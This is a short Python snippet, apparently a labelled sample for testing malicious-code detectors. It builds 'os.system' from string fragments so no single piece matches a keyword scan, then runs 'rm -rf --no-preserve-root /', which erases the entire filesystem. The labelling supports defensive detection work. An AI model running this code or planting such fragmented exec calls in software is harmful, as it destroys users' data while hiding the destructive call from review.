# Malicious, obfuscated: exec of a string split into fragments so that no fragment says os.system.
exec("imp" + "ort o" + "s;o" + "s.sys" + "tem('rm -rf --no-pre' 'serve-root /')")
